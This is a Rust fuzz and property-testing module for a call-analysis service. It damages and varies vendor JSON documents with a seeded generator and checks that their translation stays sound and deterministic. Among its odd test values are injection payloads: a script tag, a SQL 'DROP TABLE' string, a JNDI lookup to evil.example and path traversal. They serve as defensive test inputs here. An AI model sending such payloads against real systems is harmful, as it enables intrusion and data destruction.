//! Seeded damage to vendor documents, and seeded documents that no vendor has sent yet.
//!
//! [`hurt`] flips, drops, inserts and cuts bytes; [`vary`] keeps the JSON sound and changes what
//! stands in it. An equal seed gives equal inputs. How many there are is set by the environment,
//! `CALLWEAVE_FUZZ_INPUTS` and `CALLWEAVE_PROPERTY_CASES`, and else a number fit for every build.

use std::fmt::Write as _;

use bytes::Bytes;
use callweave_model::AnalyzedCall;
use callweave_provider::{Change, Lookup, RawDocument, RecordRef};
use serde_json::{Map, Number, Value, json};

/// Damaged inputs of one test, unless `CALLWEAVE_FUZZ_INPUTS` says another number.
const INPUTS: u64 = 6_000;
/// Generated documents of one test, unless `CALLWEAVE_PROPERTY_CASES` says another number.
const CASES: u64 = 2_000;

/// A small generator: xorshift, never at zero.
#[derive(Clone, Debug)]
pub struct Dice(u64);

impl Dice {
    /// A generator; `seed` and `seed ^ 1` go different ways.
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    /// The next number below a limit that is not zero.
    pub fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from((self.0 >> 11) % (limit as u64)).expect("less than a usize")
    }

    fn one_of<T: Clone>(&mut self, choices: &[T]) -> T {
        let place = self.below(choices.len());
        choices.get(place).expect("a choice").clone()
    }
}

/// One to four bytes flipped, dropped, inserted or doubled; now and then the rest cut off.
pub fn damage(dice: &mut Dice, sound: &[u8]) -> Vec<u8> {
    let mut body = sound.to_vec();
    for _ in 0..=dice.below(4) {
        if body.is_empty() {
            break;
        }
        let at = dice.below(body.len());
        match dice.below(16) {
            0..=3 => {
                let bit = 1 << dice.below(8);
                if let Some(byte) = body.get_mut(at) {
                    *byte ^= bit;
                }
            }
            4..=6 => {
                body.remove(at);
            }
            7..=10 => body.insert(at, dice.one_of(b"{}[]\",:0-9eEntf.\\\0\xff\xed")),
            11 => {
                let end = (at + 1 + dice.below(24)).min(body.len());
                body.drain(at..end);
            }
            12 => {
                let end = (at + 1 + dice.below(24)).min(body.len());
                let again: Vec<u8> = body.get(at..end).unwrap_or_default().to_vec();
                body.splice(at..at, again);
            }
            13 | 14 => {
                let word = dice.one_of(&[
                    "\\u0000",
                    "\\ud800",
                    "\u{feff}",
                    "1e400",
                    "-0",
                    "NaN",
                    "null",
                    "9223372036854775808",
                ]);
                body.splice(at..at, word.bytes());
            }
            _ => body.truncate(at),
        }
    }
    body
}

/// Hands damaged documents to `take`, each with the place of the sound one it was made of.
pub fn hurt(seed: u64, sound: &[Bytes], mut take: impl FnMut(usize, Bytes)) {
    let mut dice = Dice::new(seed);
    for input in 0..number("CALLWEAVE_FUZZ_INPUTS", INPUTS) {
        let place = usize::try_from(input % sound.len() as u64).expect("less than a usize");
        let document = sound.get(place).expect("a document");
        take(place, damage(&mut dice, document).into());
    }
}

/// Damages each document of a record in turn. A translation is the same each time, names the
/// record it was asked for, and keeps what holds of every call; or the record is set aside.
pub fn hurt_record(seed: u64, lookup: &dyn Lookup, record: &RecordRef, sound: &[RawDocument]) {
    let bodies: Vec<Bytes> = sound.iter().map(|document| document.body.clone()).collect();
    hurt(seed, &bodies, |place, body| {
        let mut raw = sound.to_vec();
        raw.get_mut(place).expect("a document").body = body;
        let change = lookup.remap(record, &raw);
        holds(
            record,
            &change.expect("a meaning of documents that are there"),
        );
    });
}

/// Documents with members of other values and types, more members and fewer.
///
/// Translating is total and gives the same each time; it does not depend on how the JSON is
/// written (blanks, escapes); what comes out survives being written and read.
pub fn vary_record(seed: u64, lookup: &dyn Lookup, record: &RecordRef, sound: &[RawDocument]) {
    let values: Vec<Value> = sound
        .iter()
        .map(|document| serde_json::from_slice(&document.body).expect("a sound document"))
        .collect();
    let mut dice = Dice::new(seed);
    for _ in 0..number("CALLWEAVE_PROPERTY_CASES", CASES) {
        let mut plain = sound.to_vec();
        let mut written = sound.to_vec();
        for (place, value) in values.iter().enumerate() {
            let mut value = value.clone();
            if dice.below(3) > 0 {
                vary(&mut dice, &mut value);
            }
            let (one, other) = (plain.get_mut(place), written.get_mut(place));
            one.expect("a document").body = value.to_string().into();
            other.expect("a document").body = spelled(&value).into();
        }
        let meaning = |raw: &[RawDocument]| lookup.remap(record, raw).expect("a meaning");
        let change = meaning(&plain);
        holds(record, &change);
        assert_eq!(
            format!("{change:?}"),
            format!("{:?}", meaning(&plain)),
            "translated twice"
        );
        assert_eq!(
            without_raw(change),
            without_raw(meaning(&written)),
            "written otherwise"
        );
    }
}

/// What holds of every change, whatever the vendor sent.
fn holds(asked: &RecordRef, change: &Change) {
    let record = match change {
        Change::Upsert(upsert) => {
            lawful(&upsert.call);
            &upsert.record
        }
        Change::NotReady { record, call, .. } => {
            if let Some(call) = call {
                lawful(call);
            }
            record
        }
        Change::Quarantined { record, reason, .. } => {
            assert!(!reason.is_empty(), "set aside without a reason");
            record
        }
        Change::Foreign { record, .. } | Change::Gone { record, .. } => record,
        Change::Seen { .. } => panic!("a translation that only lists"),
    };
    assert_eq!(record, asked);
}

fn lawful(call: &AnalyzedCall) {
    let encoded = serde_json::to_string(call).expect("a call is JSON");
    let decoded: AnalyzedCall = serde_json::from_str(&encoded).expect("a call from its JSON");
    assert_eq!(&decoded, call, "written and read");
    let utterances = call.transcript.iter().flat_map(|known| &known.utterances);
    for utterance in utterances {
        let (start, end) = (utterance.start_ms.unwrap_or(0), utterance.end_ms);
        assert!(
            start >= 0 && end.is_none_or(|end| start <= end),
            "{utterance:?}"
        );
        for word in &utterance.words {
            assert!(
                0 <= word.start_ms && word.start_ms <= word.end_ms,
                "{word:?}"
            );
        }
    }
}

/// A change as text, without the bytes it was read from.
fn without_raw(mut change: Change) -> String {
    match &mut change {
        Change::Upsert(upsert) => upsert.raw.clear(),
        Change::NotReady { raw, .. } | Change::Quarantined { raw, .. } => raw.clear(),
        _ => {}
    }
    format!("{change:?}")
}

/// Changes one to six places of a document.
pub fn vary(dice: &mut Dice, value: &mut Value) {
    for _ in 0..=dice.below(6) {
        vary_within(dice, value);
    }
}

fn vary_within(dice: &mut Dice, place: &mut Value) {
    let deeper = dice.below(5) > 0;
    match place {
        Value::Object(members) if deeper && !members.is_empty() => {
            let at = dice.below(members.len());
            vary_within(dice, members.values_mut().nth(at).expect("a member"));
        }
        Value::Array(items) if deeper && !items.is_empty() => {
            let at = dice.below(items.len());
            vary_within(dice, items.get_mut(at).expect("an item"));
        }
        other => change(dice, other),
    }
}

fn change(dice: &mut Dice, place: &mut Value) {
    match place {
        Value::Object(members) if dice.below(4) > 0 => {
            let name = members
                .keys()
                .nth(dice.below(members.len().max(1)))
                .cloned();
            if let (0, Some(name)) = (dice.below(2), name) {
                members.remove(&name);
            } else {
                let added = invented(dice);
                members.insert(format!("added_{}", dice.below(4)), added);
            }
        }
        Value::Array(items) if dice.below(4) > 0 => {
            let item = items.get(dice.below(items.len().max(1))).cloned();
            match (dice.below(3), item) {
                (0, Some(item)) => items.push(item),
                (1, _) => items.push(invented(dice)),
                _ => {
                    items.pop();
                }
            }
        }
        other => *other = invented(dice),
    }
}

/// A value that is odd in one of the ways vendors are.
fn invented(dice: &mut Dice) -> Value {
    match dice.below(8) {
        0 => Value::Null,
        1 => Value::Bool(dice.below(2) == 0),
        2 => Value::Number(dice.one_of(&[
            Number::from(0),
            Number::from(-1),
            Number::from(i64::MAX),
            Number::from(i64::MIN),
            Number::from(u64::MAX),
            Number::from(1_772_443_200),
        ])),
        3 => json!(dice.one_of(&[-0.0, 0.1 + 0.2, 1.039_999_936, 1e308, -1e9, 5e-324, 99.995])),
        4 => {
            let mut members = Map::new();
            members.insert("inner".to_owned(), json!([1, "two", null]));
            Value::Object(members)
        }
        5 => dice.one_of(&[json!([]), json!([[]]), json!([null, {}]), json!({})]),
        _ => Value::String(
            dice.one_of(&[
                "",
                " ",
                "unheard_of",
                "true",
                "12",
                "1e400",
                "-1.5",
                "2026-03-02T09:15:00+03:00",
                "02-03-2026 09:15:00",
                "9999-12-31",
                "<script>alert(1)</script>",
                "'; DROP TABLE calls; --",
                "${jndi:ldap://evil.example/x}",
                "\u{1b}[31mred\r\nnext",
                "\u{202e}back\u{2066}",
                "nul\u{0}inside",
                "//evil.example/x",
                "/../../etc",
                "+7 900 000-00-01",
                "Operator: hello Client: hi",
                "e\u{301}\u{1f642}",
            ])
            .to_owned(),
        ),
    }
}

/// The same JSON in other letters: with blanks, and with escapes for all but plain characters.
pub fn spelled(value: &Value) -> String {
    match value {
        Value::Object(members) => {
            let members: Vec<String> = members
                .iter()
                .map(|(name, value)| format!("\t{} :\n{}", quoted(name), spelled(value)))
                .collect();
            format!("{{ {} }}", members.join(" ,"))
        }
        Value::Array(items) => {
            let items: Vec<String> = items.iter().map(spelled).collect();
            format!("[\r\n{} ]", items.join(" , "))
        }
        Value::String(text) => quoted(text),
        other => other.to_string(),
    }
}

fn quoted(text: &str) -> String {
    let mut quoted = String::from("\"");
    for unit in text.encode_utf16() {
        match u8::try_from(unit) {
            Ok(letter) if letter.is_ascii_alphanumeric() => quoted.push(char::from(letter)),
            _ => {
                write!(quoted, "\\u{unit:04X}").expect("a string grows");
            }
        }
    }
    quoted.push('"');
    quoted
}

/// The number that the environment gives a test, or the one fit for every build.
#[expect(
    clippy::disallowed_methods,
    reason = "how long a test runs is set from outside"
)]
pub fn number(name: &str, otherwise: u64) -> u64 {
    match std::env::var(name) {
        Ok(told) => told.parse().expect("a number of inputs"),
        Err(_) => otherwise,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_equal_seed_gives_equal_damage_and_another_one_does_not() {
        let run = |seed| {
            let mut all = Vec::new();
            hurt(
                seed,
                &[Bytes::from_static(b"{\"a\":[1,2,3]}")],
                |_, body| all.push(body),
            );
            all
        };
        assert_eq!(run(1), run(1));
        assert_ne!(run(1), run(2));
    }

    #[test]
    fn other_letters_are_the_same_json() {
        let mut dice = Dice::new(3);
        for _ in 0..500 {
            let mut value = json!({"a": ["\u{1f642} b\"\\", {"c": 0.1}], "d": {}, "e": []});
            vary(&mut dice, &mut value);
            let read: Value = serde_json::from_str(&spelled(&value)).unwrap();
            assert_eq!(
                read,
                serde_json::from_str::<Value>(&value.to_string()).unwrap()
            );
        }
    }
}
